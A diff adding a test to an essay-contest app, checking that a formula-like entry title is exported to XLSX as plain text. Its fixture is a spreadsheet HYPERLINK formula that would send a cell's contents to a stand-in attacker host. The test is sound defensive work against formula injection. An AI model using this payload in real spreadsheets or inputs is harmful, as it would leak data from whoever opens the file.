@@ -382,6 +382,22 @@ def test_export_xlsx_organizer(client, login, organizer, make, make_entry, open_
     assert rows[1][4] == "Đã nộp"
 
 
+def test_export_xlsx_writes_a_formula_looking_title_as_text(
+    client, login, organizer, make, make_entry, open_round
+):
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
+    make_entry(open_round, make.student(full_name="Lê Văn Tác Giả"), title=formula)
+    login(organizer)
+
+    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")
+
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
+
+
 def test_export_xlsx_student_forbidden(client, login, student, open_round):
     login(student)
 
